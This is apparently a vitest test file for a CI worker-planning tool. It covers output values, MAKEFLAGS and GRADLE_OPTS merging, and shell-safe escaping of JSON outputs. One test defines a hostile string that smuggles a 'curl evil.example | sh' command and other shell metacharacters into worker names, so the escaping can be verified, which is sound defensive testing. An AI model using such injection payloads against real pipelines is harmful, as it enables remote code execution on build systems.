import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  exportedEnvironment,
  fallbackOutputs,
  mergeGradleOpts,
  mergeMakeflags,
  outputJson,
  planOutputs,
} from '../../src/plan/outputs.js';
import { staticEstimate } from '../../src/estimate/choose.js';
import { estimateFromHistory } from '../../src/estimate/estimate.js';
import { profile } from '../support/profiles.js';
import { planWorkers } from '../../src/plan/planner.js';
import { MiB } from '../../src/shared/units.js';
import { DEFAULT_SETTINGS } from '../support/settings.js';

const plan = planWorkers({
  capacity: { cpus: 4, memoryAvailableBytes: 8192 * MiB, memoryLimitBytes: 16384 * MiB },
  settings: DEFAULT_SETTINGS,
  estimate: staticEstimate(1024 * MiB, 'fallback'),
});

describe('planOutputs', () => {
  it('publishes every documented output in MiB', () => {
    const outputs = planOutputs(plan);
    expect(outputs).toMatchObject({
      workers: '4',
      'limited-by': 'cpu',
      'memory-per-worker-mb': '1024',
      // (8192 − 512) × 0.9 = 6912
      'memory-budget-mb': '6912',
      'memory-limit-mb': '16384',
      'memory-available-mb': '8192',
      cpus: '4',
      // 6912 / 4 × 0.75 = 1296
      'node-heap-mb': '1296',
      'history-runs': '0',
      confidence: 'none',
    });
    expect(JSON.parse(outputs['plan-json'] ?? '')).toMatchObject({ workers: 4, limitedBy: 'cpu' });
  });
});

describe('fallbackOutputs', () => {
  const fallback = { forcedWorkers: null, minWorkers: 2, perWorkerBytes: 1024 * MiB };

  it('counts min-workers, each with the heap of a fallback-sized worker (1024 × 0.75)', () => {
    expect(fallbackOutputs(fallback)).toEqual({
      workers: '2',
      'limited-by': 'min-workers',
      reason: "No plan (the step's warning says why): min-workers, 2.",
      'memory-per-worker-mb': '1024',
      'node-heap-mb': '768',
      'history-runs': '0',
      confidence: 'none',
      'plan-json': 'null',
    });
  });

  it('a forced count wins', () => {
    expect(fallbackOutputs({ ...fallback, forcedWorkers: 6 })).toMatchObject({
      workers: '6',
      'limited-by': 'override',
      reason: "No plan (the step's warning says why): the forced count, 6.",
    });
  });

  it('sets a subset of planOutputs, so every name is declared', () => {
    const names = Object.keys(planOutputs(plan));
    for (const name of Object.keys(fallbackOutputs(fallback))) expect(names).toContain(name);
  });
});

describe('export-env', () => {
  it.each([
    [undefined, '-j4'],
    ['', '-j4'],
    ['-j8', '-j4'],
    ['-j 8 --keep-going', '--keep-going -j4'],
    ['--jobs=8 -s', '-s -j4'],
    ['-k --jobs 3', '-k -j4'],
    ['-j', '-j4'],
  ])('MAKEFLAGS %j → %j', (existing, merged) => {
    expect(mergeMakeflags(existing, 4)).toBe(merged);
  });

  it.each([
    [undefined, '-Dorg.gradle.workers.max=4'],
    ['-Xmx2g', '-Xmx2g -Dorg.gradle.workers.max=4'],
    ['-Dorg.gradle.workers.max=16 -Xmx2g', '-Xmx2g -Dorg.gradle.workers.max=4'],
  ])('GRADLE_OPTS %j → %j', (existing, merged) => {
    expect(mergeGradleOpts(existing, 4)).toBe(merged);
  });

  it('sets the tool variables and never NODE_OPTIONS', () => {
    const env = exportedEnvironment(plan, { MAKEFLAGS: '-s' });
    expect(env).toEqual({
      PYTEST_XDIST_AUTO_NUM_WORKERS: '4',
      CARGO_BUILD_JOBS: '4',
      CMAKE_BUILD_PARALLEL_LEVEL: '4',
      MAKEFLAGS: '-s -j4',
      GRADLE_OPTS: '-Dorg.gradle.workers.max=4',
    });
    expect(Object.keys(env)).not.toContain('NODE_OPTIONS');
  });
});

describe('JSON outputs hold no character a shell or an expression reads', () => {
  /** What a script that pastes the output in (quoted or not) could read as syntax. */
  const SHELL_SYNTAX = /[^A-Za-z0-9 _.,:+\-/=%@#{}[\]"\\]/;
  const HOSTILE = `x'; curl evil.example | sh; echo '$(id)\`id\`<a>&(b)!~*?\u202e\u00e9`;

  function hostilePlan() {
    // Untrusted names reach the plan: the worker group's name, and the phases history holds.
    const history = [1, 2, 3].map((runId) => ({
      profile: profile([{ name: HOSTILE, peakBytes: 4e9, workerName: HOSTILE }], { runId }),
      url: null,
    }));
    const estimate = estimateFromHistory({
      profiles: history,
      phase: HOSTILE,
      capacityMemoryLimitBytes: 16 * 1024 ** 3,
      capacityOs: 'linux',
      nowMs: Date.parse('2026-11-21T00:00:00.000Z'),
      fallback: staticEstimate(1024 * MiB, 'fallback'),
    });
    const other = estimateFromHistory({
      profiles: history,
      phase: 'test',
      capacityMemoryLimitBytes: 16 * 1024 ** 3,
      capacityOs: 'linux',
      nowMs: Date.parse('2026-11-21T00:00:00.000Z'),
      fallback: staticEstimate(1024 * MiB, 'fallback'),
    });
    return planWorkers({
      capacity: { cpus: 4, memoryAvailableBytes: 8192 * MiB, memoryLimitBytes: 16384 * MiB },
      settings: DEFAULT_SETTINGS,
      estimate: { ...estimate, notes: [...estimate.notes, ...other.notes] },
    });
  }

  it('escapes the untrusted text in plan-json, and it parses back to the same plan', () => {
    const hostile = hostilePlan();
    // The test means something only if the hostile names did reach the plan.
    expect(hostile.estimate.workerName).toBe(HOSTILE);
    expect(hostile.estimate.notes.join('\n')).toContain('they have phase(s) "x\'; curl evil');
    const outputs = planOutputs(hostile);
    // The plain outputs are numbers, enums and the planner's own sentence: nothing quoted.
    for (const [name, value] of Object.entries(outputs))
      if (name !== 'plan-json') expect(value, name).not.toContain('evil');
    const json = outputs['plan-json'] ?? '';
    expect(json).not.toMatch(SHELL_SYNTAX);
    expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(hostile)));
  });

  it('outputJson: any value round-trips, and no character outside the safe set is written', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
        for (const input of [value, { text, nested: [text, value] }]) {
          const written = outputJson(input);
          expect(written).not.toMatch(SHELL_SYNTAX);
          expect(JSON.parse(written)).toEqual(JSON.parse(JSON.stringify(input)));
        }
      }),
    );
  });
});
